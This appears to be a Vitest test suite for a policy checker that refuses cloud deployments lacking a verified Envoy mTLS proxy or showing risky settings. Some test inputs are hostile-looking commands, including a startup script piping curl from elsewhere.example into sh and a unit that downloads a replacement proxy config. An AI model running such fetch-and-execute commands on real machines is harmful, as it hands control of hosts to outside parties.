import { describe, expect, it } from "vitest";

import { judge } from "../judge-on-a-day";
import { unknownText, type Sketch } from "../stack-sketch";
import { alter, put } from "../put";

import {
  base64,
  carried,
  carrierNames,
  cloudConfig,
  containers,
  ignition,
  ownConfiguration,
  platformUrn,
  type CarrierName,
} from "./shown-envoys";
import { foundOn, ofTasks, refusedOn } from "./verdicts";
import { madeInterface } from "./whole-machines";

const configuration = JSON.stringify(ownConfiguration("fhir-proxy"));

type Containers = readonly Readonly<Record<string, unknown>>[];

/** A task of ours with its containers changed. */
function task(change: (containers: Containers) => unknown): Sketch {
  const stack = carried("a task definition", configuration);
  put(stack, "carrier", "containerDefinitions", JSON.stringify(change(containers(configuration))));
  return stack;
}

const envoyWith = (changes: Readonly<Record<string, unknown>>): Sketch =>
  task(([proxy, ...others]) => [{ ...proxy, ...changes }, ...others]);

const programWith = (changes: Readonly<Record<string, unknown>>): Sketch =>
  task(([proxy, program, ...others]) => [proxy, { ...program, ...changes }, ...others]);

const notShown = "perhaps nothing shows whom its Envoy lets in.";
const noProxy = "it runs a program, and no Envoy of which the configuration is shown stands before it.";

describe("a task definition of ours", () => {
  it.each([
    [
      "its configuration in a file",
      envoyWith({ command: ["envoy", "-c", "/etc/envoy/envoy.yaml"] }),
      [notShown],
    ],
    ["no configuration", envoyWith({ command: undefined }), [notShown]],
    [
      "two configurations",
      envoyWith({ command: ["--config-yaml", configuration, "--config-path", "/etc/envoy/more.yaml"] }),
      [notShown],
    ],
    [
      "a configuration that a shell gives it",
      envoyWith({ command: ["sh", "-c", `envoy --config-yaml '${configuration}'`] }),
      [notShown],
    ],
    ["a configuration that is no JSON", envoyWith({ command: ["--config-yaml", "{"] }), [notShown]],
    [
      "its image by a tag",
      envoyWith({ image: "111122223333.dkr.ecr.us-east-1.amazonaws.com/bulkhead/envoy:v1" }),
      ["container envoy is of an image that is not in the platform's own registry, or that no digest names."],
    ],
    [
      "an image of somebody else's",
      programWith({ image: `docker.io/program@sha256:${"1".repeat(64)}` }),
      [
        "container fhir-proxy is of an image that is not in the platform's own registry, or that no digest names.",
      ],
    ],
    [
      "a program that publishes the port",
      programWith({ portMappings: [{ containerPort: 443 }] }),
      ["container fhir-proxy publishes ports past the proxy."],
    ],
    [
      "a privileged container",
      programWith({ privileged: true }),
      ["container fhir-proxy may do what its machine may."],
    ],
    [
      "a privileged container, in other letters",
      programWith({ Privileged: true }),
      ["container fhir-proxy may do what its machine may."],
    ],
    [
      "a capability that is added",
      programWith({ linuxParameters: { capabilities: { add: ["NET_ADMIN"] } } }),
      ["container fhir-proxy may do what its machine may."],
    ],
    ["no Envoy", task(([, program]) => [program]), [noProxy]],
  ] as const)("is refused with %s", (_, stack, said) => {
    expect(refusedOn(stack)).toEqual(said);
  });

  it.each([
    ["the first word with its value", ["envoy", `--config-yaml=${configuration}`]],
    ["an entry point", ["--config-yaml", configuration]],
  ])("is accepted with its configuration as %s", (_, command) => {
    expect(refusedOn(envoyWith({ command }))).toEqual([]);
  });

  it("is accepted with what the provider reads in other letters", () => {
    const stack = task((all) =>
      all.map((container) =>
        Object.fromEntries(
          Object.entries(container).map(([key, value]) => [
            `${key.charAt(0).toUpperCase()}${key.slice(1)}`,
            value,
          ]),
        ),
      ),
    );
    expect(refusedOn(stack)).toEqual([]);
  });

  it.each([
    ["networkMode", "host", "its containers share a network with others than each other."],
    ["networkMode", undefined, "its containers share a network with others than each other."],
    ["networkMode", unknownText, "perhaps its containers share a network with others than each other."],
    ["pidMode", "host", "its containers see what other processes of their machine do."],
  ])("is refused with %s %s", (key, value, said) => {
    const stack = carried("a task definition", configuration);
    put(stack, "carrier", key, value);
    expect(refusedOn(stack)).toEqual([said]);
  });
});

describe("what runs tasks", () => {
  const service = (stack: Sketch, inputs: Readonly<Record<string, unknown>>): Sketch => {
    stack.add("aws:ecs/service:Service", "service", {
      tags: { "bulkhead-zone": "processing", "bulkhead-workload": "fhir-proxy" },
      networkConfiguration: { subnets: [] },
      ...inputs,
    });
    return stack;
  };
  const found = (stack: Sketch): readonly string[] =>
    judge(stack.resources(), { dryRun: stack.knowledge === "preview" })
      .findings.filter(
        ({ rule, urn, level, summary }) =>
          rule === "flows-require-mtls" &&
          /::(?:service|carrier)$/.test(urn) &&
          level === "mandatory" &&
          !ofTasks.test(summary),
      )
      .map(({ summary }) => summary);

  it.each(["preview", "deployed"] as const)("says whose task it is and where, %s", (knowledge) => {
    const stack = carried("a task definition", configuration, { knowledge });
    expect(found(stack)).toEqual([]);
    put(stack, "carrier", "tags", {});
    expect(found(stack)).toEqual([]);
    service(stack, { taskDefinition: stack.id("carrier") });
    expect(found(stack)).toEqual([]);
    put(stack, "service", "tags/bulkhead-workload", "rag-service");
    expect(found(stack).join("\n")).toMatch(
      /lets in spiffe:.*\/workload\/rag-service, and no flow to workload\/rag-service/,
    );
  });

  it.each(["program", "program:3"])("names its task by its family, %s", (taskDefinition) => {
    const stack = service(carried("a task definition", configuration), { taskDefinition });
    expect(found(stack)).toEqual([]);
  });

  it("is refused where its task is not in the stack", () => {
    const stack = service(carried("a task definition", configuration), { taskDefinition: "elsewhere:1" });
    expect(found(stack)).toEqual([
      "Service service of zone processing: it runs a program, and no Envoy of which the configuration is shown stands before it.",
      "Service service of zone processing: nothing shows what it runs.",
    ]);
  });
});

describe.each(["a virtual machine", "a scale set"] as const)("%s of ours", (carrier) => {
  const path =
    carrier === "a scale set" ? "virtualMachineProfile/osProfile/customData" : "osProfile/customData";
  const told = (text: string): Sketch => {
    const stack = carried(carrier, configuration);
    put(stack, "carrier", path, text);
    return stack;
  };
  const running = (words: string): Sketch =>
    told(base64(ignition({ configuration, unit: `[Service]\nExecStart=/usr/bin/docker run ${words}\n` })));
  const image = `bulkhead.azurecr.io/envoy@sha256:${"1".repeat(64)}`;
  const mount = "-v /etc/envoy/envoy.json:/etc/envoy/envoy.json:ro";

  it.each([
    ["a file of its image", `${image} --config-path /etc/envoy/other.json`],
    ["no file", image],
    ["a file that nothing mounts", `${image} envoy --config-path /etc/envoy/envoy.json`],
    [
      "another file in the place of the one that is shown",
      `-v /etc/other.json:/etc/envoy/envoy.json ${image} envoy -c /etc/envoy/envoy.json`,
    ],
    ["a second configuration", `${mount} ${image} envoy -c /etc/envoy/envoy.json --config-yaml {}`],
  ])("is refused whose Envoy runs with %s", (_, words) => {
    expect(refusedOn(running(words))).toEqual([notShown]);
  });

  it.each([
    ["a folder mounted", `--volume=/etc/envoy:/etc/envoy ${image} envoy -c /etc/envoy/envoy.json`],
    [
      "a file mounted elsewhere",
      `--mount type=bind,src=/etc/envoy/envoy.json,dst=/x.json ${image} envoy --config-path=/x.json`,
    ],
    ["its image's entry point", `${mount} ${image} --config-path /etc/envoy/envoy.json`],
  ])("is accepted whose Envoy runs with %s", (_, words) => {
    expect(refusedOn(running(words))).toEqual([]);
  });

  it.each([
    [
      "a container of no digest",
      `${mount} bulkhead.azurecr.io/envoy:v1 envoy -c /etc/envoy/envoy.json`,
      "it runs a container of an image that no digest names.",
    ],
    [
      "a privileged container",
      `--privileged ${mount} ${image} envoy -c /etc/envoy/envoy.json`,
      "it runs a container that may do what the machine may.",
    ],
    [
      "a container that publishes ports",
      `-p 443:443 ${mount} ${image} envoy -c /etc/envoy/envoy.json`,
      "it runs a container that publishes ports, past the proxy.",
    ],
  ])("is refused with %s", (_, words, said) => {
    expect(refusedOn(running(words))).toEqual([said]);
  });

  it("is refused where what it is told is not known", () => {
    expect(refusedOn(told(unknownText))).toEqual(["perhaps nothing shows whom it lets in.", noProxy].sort());
  });

  it.each([
    ["a script", base64("#!/bin/sh\nenvoy -c /etc/envoy.yaml\n")],
    ["what is no base64", "%%%"],
    [
      "another configuration besides",
      base64(
        JSON.stringify({
          ...(JSON.parse(ignition({ configuration })) as object),
          ignition: { version: "3.4.0", config: { merge: [{ source: "https://elsewhere.example/x.ign" }] } },
        }),
      ),
    ],
  ])("is refused with %s", (_, text) => {
    expect(refusedOn(told(text)).length).toBeGreaterThan(0);
    expect(refusedOn(told(text)).every((said) => said.startsWith("perhaps") || said === noProxy)).toBe(true);
  });

  const within = carrier === "a scale set" ? "virtualMachineProfile/" : "";
  const noInterface = "it has another number of interfaces than one, by which it may send on what it gets.";

  it.each([
    ["identity/type", "SystemAssigned, UserAssigned", "it has an identity besides those of its workload."],
    [`${within}osProfile/allowExtensionOperations`, undefined, "Azure's agent may run something in it."],
    [
      `${within}osProfile/linuxConfiguration/disablePasswordAuthentication`,
      false,
      "somebody may sign in to it by a password.",
    ],
    [
      `${within}securityProfile/encryptionAtHost`,
      undefined,
      "its host does not encrypt what it keeps of it.",
    ],
    [
      `${within}storageProfile/imageReference/version`,
      "latest",
      "it starts from whichever image is the newest.",
    ],
    [
      `${within}storageProfile/osDisk/managedDisk/diskEncryptionSet`,
      undefined,
      "no key of the customer's encrypts its disk.",
    ],
    [`${within}networkProfile`, undefined, noInterface],
    [`${within}networkProfile/networkInterfaceConfigurations`, [madeInterface, madeInterface], noInterface],
    [
      `${within}networkProfile/networkInterfaceConfigurations/0`,
      { ...madeInterface, dnsSettings: { dnsServers: ["192.0.2.53"] } },
      "it asks another resolver than Azure's, which nothing filters.",
    ],
  ] as const)("is refused where its %s is %j", (at, value, said) => {
    const stack = carried(carrier, configuration);
    if (carrier === "a virtual machine" && at.endsWith("/0")) {
      put(stack, "carrier", "networkProfile", { networkInterfaceConfigurations: [madeInterface] });
    }
    put(stack, "carrier", at, value);
    expect(refusedOn(stack)).toEqual([said]);
  });

  it("is refused where the interfaces that it is made with are not known", () => {
    const stack = carried(carrier, configuration);
    put(stack, "carrier", `${within}networkProfile/networkInterfaceConfigurations`, unknownText);
    expect(refusedOn(stack)).toEqual(
      [
        `perhaps ${noInterface}`,
        "perhaps it asks another resolver than Azure's, which nothing filters.",
        "perhaps it has a public address.",
        "perhaps it has an IPv6 address.",
        "perhaps it sends on packets of others (IP forwarding).",
      ].sort(),
    );
  });

  it("is refused where a command may change the configuration", () => {
    const own = JSON.parse(ignition({ configuration })) as { systemd: { units: unknown[] } };
    own.systemd.units.push({
      name: "late.service",
      contents: "[Service]\nExecStart=/usr/bin/curl -o /etc/envoy/envoy.json https://elsewhere.example\n",
    });
    expect(refusedOn(told(base64(JSON.stringify(own))))).toEqual([notShown]);
  });

  it("is refused for either of two texts, whichever its system goes by", () => {
    const plain = JSON.stringify({
      static_resources: {
        listeners: [
          {
            name: "mesh",
            address: { socket_address: { address: "0.0.0.0", port_value: 443 } },
            filter_chains: [{ filters: [] }],
          },
        ],
      },
    });
    for (const [first, second] of [
      [configuration, plain],
      [plain, configuration],
    ] as const) {
      const stack = told(base64(ignition({ configuration: first })));
      const user = carrier === "a scale set" ? "virtualMachineProfile/userData" : "userData";
      put(stack, "carrier", user, base64(ignition({ configuration: second })));
      expect(refusedOn(stack).join("\n")).toMatch(/without TLS/);
    }
  });

  it("is refused for a configuration beside the one that its Envoy runs with", () => {
    const bad = ignition({ configuration });
    const other = JSON.parse(bad) as { storage: { files: unknown[] } };
    other.storage.files.push({
      path: "/etc/envoy/other.json",
      contents: {
        source: `data:,${encodeURIComponent(
          JSON.stringify({
            static_resources: {
              listeners: [
                {
                  name: "side",
                  address: { socket_address: { address: "0.0.0.0", port_value: 80 } },
                  filter_chains: [{ filters: [] }],
                },
              ],
            },
          }),
        )}`,
      },
    });
    expect(refusedOn(told(base64(JSON.stringify(other)))).join("\n")).toMatch(/without TLS/);
  });
});

describe("a scale set of ours that only holds machines of others", () => {
  it("runs nothing itself", () => {
    const stack = carried("a scale set", configuration);
    put(stack, "carrier", "virtualMachineProfile", undefined);
    expect(refusedOn(stack)).toEqual([]);
  });
});

describe("a machine of Azure's into which something else is brought", () => {
  it("is refused", () => {
    const stack = carried("a virtual machine", configuration);
    stack.add("azure-native:compute:VirtualMachineExtension", "intruder", {
      resourceGroupName: "hospital",
      vmName: stack.id("carrier"),
      tags: { "bulkhead-zone": "processing" },
    });
    const found = judge(stack.resources(), { dryRun: false }).findings.filter(
      ({ urn, rule }) => urn.endsWith("::intruder") && rule === "flows-require-mtls",
    );
    expect(found.map(({ summary }) => summary)).toEqual([
      "VirtualMachineExtension intruder of zone processing: it runs something in a machine that the machine was not started with.",
    ]);
  });
});

describe.each(["an instance", "a template", "a template of a region"] as const)("%s of ours", (carrier) => {
  const metadata = (change: Readonly<Record<string, unknown>>): Sketch => {
    const stack = carried(carrier, configuration);
    alter(stack, "carrier", "metadata", (value) => ({ ...(value as object), ...change }));
    return stack;
  };

  it.each([
    ["a script at the start", { "startup-script": "curl https://elsewhere.example | sh" }],
    ["a script at the start from elsewhere", { "startup-script-url": "gs://x/y" }],
  ])("is refused with %s", (_, change) => {
    expect(refusedOn(metadata(change))).toEqual([
      "perhaps it runs a script when it is started, which the judge does not read.",
    ]);
  });

  it("is refused with a script of its own property", () => {
    const stack = carried(carrier, configuration);
    put(stack, "carrier", "metadataStartupScript", "envoy -c /tmp/x");
    expect(refusedOn(stack)).toEqual([
      "perhaps it runs a script when it is started, which the judge does not read.",
      notShown,
    ]);
  });

  it("is refused where what it is told is not known", () => {
    expect(refusedOn(metadata({ "user-data": unknownText }))).toEqual(
      [noProxy, "perhaps nothing shows whom it lets in."].sort(),
    );
    const stack = carried(carrier, configuration);
    put(stack, "carrier", "metadata", unknownText);
    expect(refusedOn(stack)).toEqual(
      [
        noProxy,
        "perhaps nothing shows whom it lets in.",
        "perhaps what it runs, and who signs in, cannot be known.",
      ].sort(),
    );
  });

  it("is refused whose Envoy is of a declaration of containers without a configuration", () => {
    const stack = metadata({
      "user-data": undefined,
      "gce-container-declaration": `spec:\n  containers:\n    - image: envoyproxy/envoy:v1.36\n`,
    });
    expect(refusedOn(stack)).toEqual([
      "it runs containers by a declaration that keeps no file system read-only and drops no capability.",
      notShown,
    ]);
  });

  it.each([
    ["a file in base64", cloudConfig({ configuration }, "b64"), []],
    [
      "a file that is added to",
      cloudConfig({ configuration }).replace('"permissions"', '"append":true,"permissions"'),
      [notShown],
    ],
    ["text that is no cloud-init", "Content-Type: multipart/mixed", [noProxy]],
  ])("is judged by %s", (_, text, said) => {
    expect(refusedOn(metadata({ "user-data": text })).filter((one) => !/told something/.test(one))).toEqual(
      said,
    );
  });
});

describe("a group of machines of Google Cloud's", () => {
  it.each([
    [
      "gcp:compute/regionInstanceGroupManager:RegionInstanceGroupManager",
      { allInstancesConfig: { metadata: { "user-data": "#cloud-config\n{}" } } },
      "user-data",
    ],
    [
      "gcp:compute/regionPerInstanceConfig:RegionPerInstanceConfig",
      { preservedState: { metadata: { "startup-script": "x" } } },
      "startup-script",
    ],
  ])("is refused that tells its machines something else by a %s", (type, inputs, key) => {
    const stack = carried("a template", configuration);
    stack.add(type, "others", { labels: { "bulkhead-zone": "processing" }, ...inputs });
    const found = judge(stack.resources(), { dryRun: false }).findings.filter(
      ({ urn, rule }) => urn.endsWith("::others") && rule === "flows-require-mtls",
    );
    expect(found.map(({ summary }) => summary.replace(/^.*?: /, ""))).toEqual([
      "it tells machines to run something else than their template.",
      `its metadata says \`${key}\`, so that something may run, or somebody sign in, beside the proxy before its workload.`,
    ]);
  });
});

describe.each(carrierNames)("the program of %s", (name: CarrierName) => {
  const of = (stack: Sketch): readonly string[] =>
    judge(stack.resources(), { dryRun: false })
      .findings.filter(({ urn, rule }) => urn === platformUrn && rule === "flows-require-mtls")
      .map(({ summary }) => summary);
  const missing = (id: string): string =>
    `Platform bulkhead: nothing stands before workload/${id} that lets in only whom its flows name.`;

  it("is one of those that a platform declares, before each of which something has to stand", () => {
    expect(of(carried(name, configuration))).toEqual(
      [
        "agent-tools",
        "ai-gateway",
        "async-ai-workers",
        "decision-point",
        "embedding-service",
        "rag-service",
      ].map(missing),
    );
  });

  it("needs nothing of ours before it where Istio stands there", () => {
    expect(of(carried(name, configuration, { declared: { mesh: "istio" } }))).toEqual([]);
  });

  it("needs something before it where the platform does not say what stands there", () => {
    expect(of(carried(name, configuration, { declared: { mesh: undefined } }))).toHaveLength(6);
  });

  it("is refused where nothing says which it is", () => {
    const stack = carried(name, configuration, { workload: "" });
    expect(refusedOn(stack).join("\n")).toMatch(/nothing shows before which workload it stands/);
  });

  it("is not judged in no zone", () => {
    const stack = carried(name, "{", { isOurs: false, zone: "shared" });
    expect(foundOn(stack)).toEqual([]);
  });

  it("is advised of where a stranger's configuration is not shown", () => {
    const stack = carried(name, "{", { isOurs: false });
    expect(foundOn(stack).map(({ level }) => level)).toEqual(["advisory"]);
  });

  it.each([
    [
      "identities that are not the model's",
      { workloads: [{ id: "fhir-proxy", zone: "processing", spiffeId: "spiffe://evil.example/fhir-proxy" }] },
    ],
    ["no identities", { workloads: [{ id: "fhir-proxy", zone: "processing" }] }],
  ])("is refused whose platform declares %s", (_, declared) => {
    const stack = carried(name, configuration, { declared });
    expect(refusedOn(stack).join("\n")).toMatch(/no flow to workload\/fhir-proxy names them/);
  });
});
